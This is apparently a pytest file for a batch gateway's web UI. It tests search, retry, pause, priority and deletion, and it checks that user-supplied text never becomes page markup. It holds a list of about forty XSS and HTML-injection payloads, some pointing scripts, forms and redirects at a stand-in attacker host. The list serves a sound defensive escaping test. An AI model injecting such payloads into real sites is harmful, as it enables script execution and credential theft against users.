"""Batches and their lines as pages show them."""

import json
from collections.abc import Callable, Iterator
from urllib.parse import quote

import pytest
from sqlalchemy import text

from app.services.gateway import Gateway
from tests.conftest import KeyClient
from tests.fakes.openai_server import FakeServer
from tests.services.running.conftest import Workers
from tests.support.batches import chat_line, create, ended, jsonl
from tests.support.browsing import Browser, Page, parsed

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)",
    "` onclick=alert(1) `",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=csrf>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*7 }}<b>x</b>",
    "{% raw %}<b>x</b>",
    "${alert(1)}<b>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<b>x</b>",
    "&#60;script&#62;alert(1)<b>x</b>",
    "\u2028<script>alert(1)</script>",
    "<scr\tipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "\u202e<script>alert(1)</script>",
    "<x contenteditable onblur=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
FAILED_AS = """
    UPDATE batch_lines SET error_code = :c, dropped_fields = :c
    WHERE state = 'failed' AND batch_id = (SELECT id FROM batches WHERE public_id = :b)
"""


@pytest.fixture
def fake() -> Iterator[FakeServer]:
    with FakeServer(models=()) as server:
        yield server


@pytest.fixture
def local_base_url(fake: FakeServer) -> str:
    return fake.base_url


@pytest.fixture
def workers(gateway: Gateway) -> Iterator[Workers]:
    found = Workers(gateway)
    yield found
    found.stop()


def shapes(page: Page) -> set[tuple[str, tuple[str, ...]]]:
    """Which elements with which attributes there are; texts and values aside."""
    return {(element.name, tuple(sorted(element.attributes))) for element in page.elements}


@pytest.mark.one_database
def test_nothing_that_callers_or_models_write_becomes_part_of_a_page(
    gateway: Gateway, client: KeyClient, workers: Workers, enter: Callable[..., Browser]
) -> None:
    assert len(PAYLOADS) >= 40
    workers.start()
    plain, hostile = (
        create(
            client,
            jsonl(
                chat_line(f"{number} {word}", f"{word} refuse-this" if number % 2 else word)
                for number, word in enumerate(words)
            ),
            metadata={"name": words[0], **{f"{number}{word}"[:64]: word for number, word in enumerate(words[:12])}},
        )["id"]
        for words in (["plain"] * len(PAYLOADS), PAYLOADS)
    )
    for batch in (plain, hostile):
        assert ended(client, batch)["status"] == "completed"
    with gateway.database.write() as connection:
        connection.execute(text("UPDATE files SET filename = :n WHERE filename = 'in.jsonl'"), {"n": PAYLOADS[1]})
        for code, batch in (("plain", plain), (PAYLOADS[0], hostile)):
            connection.execute(
                text(FAILED_AS),
                {"c": code, "b": batch},
            )
            errors = [{"code": code, "message": code, "line": None, "param": None}]
            connection.execute(
                text("UPDATE batches SET errors = :e WHERE public_id = :b"), {"e": json.dumps(errors), "b": batch}
            )
    boss = enter("admin")
    for path in ("/ui/batches/{}", "/ui/batches/{}/lines", "/ui/batches?q={}"):
        assert shapes(boss.page(path.format(hostile))) <= shapes(boss.page(path.format(plain))), path
    lines = [shapes(boss.page(f"/ui/batches/{plain}/lines/{number}")) for number in (1, 2)]
    for number, payload in enumerate(PAYLOADS, 1):
        page = boss.page(f"/ui/batches/{hostile}/lines/{number}")
        assert shapes(page) <= lines[0] | lines[1], payload
        [request] = [each.text for each in page.all("pre")][:1]
        assert payload in json.loads(request)["body"]["messages"][0]["content"]


@pytest.mark.one_database
def test_nothing_in_an_address_becomes_part_of_a_page(member: Browser) -> None:
    for path in ("/ui/batches?q={}", "/ui/batches?after={}", "/ui/{}", "/ui/batches/{}", "/ui/sign-in?next={}"):
        known = shapes(_any(member, path.format("plain")))
        for payload in PAYLOADS[::3]:
            assert shapes(_any(member, path.format(quote(payload, safe="")))) <= known, (path, payload)


def _any(browser: Browser, path: str) -> Page:
    return parsed(browser.get(path, follow_redirects=True).text)


def test_a_batch_says_what_became_of_its_lines_and_what_can_be_done(
    client: KeyClient, workers: Workers, enter: Callable[..., Browser]
) -> None:
    workers.start()
    lines = [chat_line(f"q-{n}", "refuse-this" if n < 2 else "hello") for n in range(5)]
    made = ended(client, create(client, jsonl(lines), metadata={"name": "Nightly"})["id"])
    member, viewer = enter("member"), enter("viewer")
    for path in (
        "/ui/batches",
        "/ui/batches?q=NIGHT",
        "/ui/batches?q=in.json",
        f"/ui/batches?q={made['id']}",
        "/ui/batches?status=completed",
    ):
        shown = member.get(path).text
        assert made["id"] in shown and "Nightly" in shown and "2 failed" in shown and "Retry failed" in shown, path
    for path in (
        "/ui/batches?q=nothing",
        "/ui/batches?status=failed",
        "/ui/batches?provider=openai",
        "/ui/batches?status=running",
    ):
        assert made["id"] not in member.get(path).text, path
    page = member.get(f"/ui/batches/{made['id']}").text
    assert "invalid_request_error" in page and f"/ui/files/{made['output_file_id']}" in page
    assert "Retry these" in page and "Rerun" in page
    assert "Retry failed" not in viewer.get(f"/ui/batches/{made['id']}").text
    assert viewer.post(f"/ui/batches/{made['id']}/retry").status_code == 403
    listed = member.get(f"/ui/batches/{made['id']}/lines?state=failed").text
    assert "q-1" in listed and "q-3" not in listed
    found = member.get(f"/ui/batches/{made['id']}/lines?custom_id=q-3")
    assert found.headers["Location"] == f"/ui/batches/{made['id']}/lines/4"
    texts = [json.loads(each.text) for each in member.page(found.headers["Location"]).all("pre")]
    assert texts[0] == lines[3] and texts[1] == lines[3]["body"] and texts[2]["response"]["status_code"] == 200
    for path in (
        "lines/0",
        "lines/6",
        "lines/x",
        f"lines/{10**20}",
        "lines?custom_id=none",
        "lines?state=no",
        "lines?after=x",
    ):
        assert member.get(f"/ui/batches/{made['id']}/{path}").status_code in (400, 404), path
    again = member.post(f"/ui/batches/{made['id']}/retry")
    assert again.status_code == 303
    retried = ended(client, again.headers["Location"].split("/")[-1].partition("?")[0])
    assert retried["retry_of"] == made["id"] and retried["request_counts"]["total"] == 2
    elsewhere = member.post(f"/ui/batches/{made['id']}/retry", model="another", error_code="invalid_request_error")
    rerun = ended(client, elsewhere.headers["Location"].split("/")[-1].partition("?")[0])
    assert rerun["model"] == "another" and rerun["request_counts"]["total"] == 2
    for wrong in ({"error_code": "none"}, {"provider": "nobody"}, {"model": "x" * 300}):
        assert member.post(f"/ui/batches/{made['id']}/retry", **wrong).status_code == 400, wrong
    assert member.post(f"/ui/batches/{made['id']}/delete").headers["Location"] == "/ui/batches?note=deleted"
    assert member.get(f"/ui/batches/{made['id']}").status_code == 404


def test_older_batches_follow_and_are_searched_a_slice_at_a_time(client: KeyClient, member: Browser) -> None:
    made = [create(client, jsonl([chat_line("a")]), metadata={"name": f"n{number}"})["id"] for number in range(27)]
    first = member.get("/ui/batches").text
    assert made[-1] in first and made[1] not in first and f"after={made[2]}" in first
    second = member.get(f"/ui/batches?after={made[2]}").text
    assert made[1] in second and made[0] in second and f"/ui/batches/{made[2]}" not in second
    assert f"after={made[2]}" in member.get("/ui/batches?q=n").text
    assert made[0] in member.get("/ui/batches?q=n0").text
    assert member.post(f"/ui/batches/{made[0]}/cancel").status_code == 303
    assert member.post(f"/ui/batches/{made[0]}/cancel").status_code == 409


def test_a_batch_is_paused_resumed_and_put_first(client: KeyClient, member: Browser) -> None:
    made = create(client, jsonl([chat_line("a")]))["id"]
    at = f"/ui/batches/{made}"
    assert member.post(f"{at}/pause").headers["Location"] == f"{at}?note=paused"
    shown = member.get(at).text
    assert "pill paused" in shown and "Resume" in shown and "pill paused" in member.get("/ui/batches").text
    assert member.post(f"{at}/resume").status_code == 303 and "Resume" not in member.get(at).text
    assert member.post(f"{at}/priority", priority="-7").status_code == 303
    assert client.get(f"/v1/batches/{made}").json["priority"] == -7
    for wrong in ("11", "x", "", "1e3", "9" * 30):
        assert member.post(f"{at}/priority", priority=wrong).status_code == 400, wrong
    assert member.post(f"{at}/cancel").status_code == 303
    assert member.post(f"{at}/pause").status_code == 409
